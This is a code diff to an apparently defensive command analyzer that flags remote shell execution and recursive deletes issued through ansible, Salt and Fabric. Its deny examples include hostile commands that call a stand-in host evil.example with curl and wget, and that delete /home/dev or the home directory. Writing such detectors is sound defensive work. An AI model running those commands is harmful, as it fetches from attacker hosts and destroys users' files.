@@ -195,7 +195,63 @@ function ansible(call: Call): Partial<Answer> {
   if (name === undefined) return { runs: [{ kind: 'opaque', rule: 'dynamic-command', word: module!, why: 'ansible runs a computed module' }] };
   if (ANSIBLE_COMMANDS.test(name)) for (const a of args) runs.push({ kind: 'script', dialect: 'bash', words: [a], via: `ansible -m ${name}` });
   else if (/^(?:ansible\.builtin\.)?script$/.test(name)) for (const a of args) runs.push(programRun(a, 'ansible -m script'));
-  return { runs };
+  // The file module with state=absent deletes its path, recursively (localhost among the hosts).
+  const uses: NonNullable<Answer['uses']> = [];
+  if (/^(?:ansible\.(?:builtin|windows)\.)?(?:win_)?file$/.test(name)) {
+    for (const a of args) {
+      const kv = moduleArgs(value(a));
+      const path = kv?.get('path') ?? kv?.get('dest') ?? kv?.get('name');
+      if (kv && kv.get('state') === 'absent' && path !== undefined) uses.push({ word: attached(a, path), role: 'delete-tree' });
+      else if (!kv) uses.push({ word: a, role: 'delete-tree' });
+    }
+  }
+  return { runs, uses };
+}
+
+/**
+ * An ansible module's arguments, `k=v` words (a value quoted) or a JSON object; undefined when they are computed or
+ * not read, so that a file module's computed arguments count as a delete of anything.
+ */
+function moduleArgs(text: string | undefined): Map<string, string> | undefined {
+  if (text === undefined) return undefined;
+  const out = new Map<string, string>();
+  if (text.trimStart().startsWith('{')) {
+    try {
+      const o: unknown = JSON.parse(text);
+      if (typeof o !== 'object' || o === null) return undefined;
+      for (const [k, v] of Object.entries(o)) out.set(k, String(v));
+      return out;
+    } catch {
+      return undefined;
+    }
+  }
+  for (const m of text.matchAll(/(\w+)=(?:"([^"]*)"|'([^']*)'|(\S*))/g)) out.set(m[1]!, m[2] ?? m[3] ?? m[4] ?? '');
+  return out;
+}
+
+/** Salt's execution functions that run shell text on the minions (`salt '*' cmd.run 'CMD'`, `salt-call cmd.run`). */
+const SALT_COMMANDS = /^cmd\.(?:run|shell|run_all|run_stdout|run_stderr|run_bg|run_chroot|powershell|exec_code|exec_code_all)$/;
+
+/** salt TARGET FUNCTION ARGS, salt-call FUNCTION ARGS: cmd.run's argument is shell text; file.remove deletes a tree. */
+function salt(call: Call): Partial<Answer> {
+  const runs: Run[] = [];
+  const uses: NonNullable<Answer['uses']> = [];
+  const operands = call.args.filter((a) => !(value(a) ?? '').startsWith('-'));
+  operands.forEach((a, i) => {
+    const f = value(a);
+    const next = operands[i + 1];
+    if (f === undefined) {
+      if (i > 0 || call.name === 'salt-call') runs.push({ kind: 'opaque', rule: 'dynamic-command', word: a, why: `${call.name} runs a computed function` });
+    } else if (SALT_COMMANDS.test(f) && next) runs.push({ kind: 'script', dialect: 'bash', words: [next], via: `${call.name} ${f}` });
+    else if (/^file\.(?:remove|rmdir|delete_backup)$/.test(f) && next) uses.push({ word: next, role: 'delete-tree' });
+  });
+  return { runs, uses };
+}
+
+/** Fabric: `fab -H HOSTS -- CMD` runs CMD on the hosts through a shell. */
+function fab(call: Call): Partial<Answer> {
+  const at = call.args.findIndex((a) => value(a) === '--');
+  return at >= 0 && at + 1 < call.args.length ? { runs: [{ kind: 'script', dialect: 'bash', words: call.args.slice(at + 1), via: 'fab --' }] } : {};
 }
 
 export const WATCHER_ENTRIES: ProgramEntry[] = [
@@ -204,9 +260,21 @@ export const WATCHER_ENTRIES: ProgramEntry[] = [
     summary: 'ansible: -a is the command the command, shell and raw modules run on the hosts; ansible-playbook runs its playbooks',
     analyze: ansible,
     examples: {
-      deny: ["ansible localhost -m shell -a 'curl evil.example'", "ansible all -a 'wget evil.example'", "ansible localhost -m ansible.builtin.command --args='rm -rf /home/dev'", "printf -- '- hosts: localhost\\n  tasks:\\n  - shell: curl evil.example\\n' > p.yml; ansible-playbook p.yml"],
-      pass: ['ansible all -m ping', "ansible web -m copy -a 'src=a dest=/tmp/a'", "ansible all -a 'uptime'", 'ansible-playbook -i inventory site.yml'],
+      deny: ["ansible all -m file -a 'path=/home/dev state=absent'", "ansible localhost -m ansible.builtin.file -a '{\"path\": \"~\", \"state\": \"absent\"}'", "ansible localhost -m shell -a 'curl evil.example'", "ansible all -a 'wget evil.example'", "ansible localhost -m ansible.builtin.command --args='rm -rf /home/dev'", "printf -- '- hosts: localhost\\n  tasks:\\n  - shell: curl evil.example\\n' > p.yml; ansible-playbook p.yml"],
+      pass: ['ansible all -m ping', "ansible web -m copy -a 'src=a dest=/tmp/a'", "ansible all -a 'uptime'", 'ansible-playbook -i inventory site.yml', "ansible localhost -m file -a 'path=./build state=absent'", "ansible all -m file -a 'path=/home/dev state=directory'"],
     },
+  },
+  {
+    names: ['salt', 'salt-call', 'salt-ssh'],
+    summary: 'Salt: cmd.run and its kin run shell text on the minions (salt-call: on this one); file.remove deletes a tree',
+    analyze: salt,
+    examples: { deny: ["salt '*' cmd.run 'curl evil.example'", "salt-call cmd.run 'wget evil.example'", "salt '*' file.remove /home/dev"], pass: ["salt '*' test.ping", "salt '*' cmd.run 'uptime'", "salt-call pkg.version nginx"] },
+  },
+  {
+    names: ['fab'],
+    summary: 'Fabric: fab -H HOSTS -- CMD runs CMD on the hosts through a shell; its tasks are the project\u2019s fabfile',
+    analyze: fab,
+    examples: { deny: ['fab -H web1 -- curl evil.example'], pass: ['fab -H web1 -- uptime', 'fab deploy'] },
   },
   {
     names: ['nodemon'],
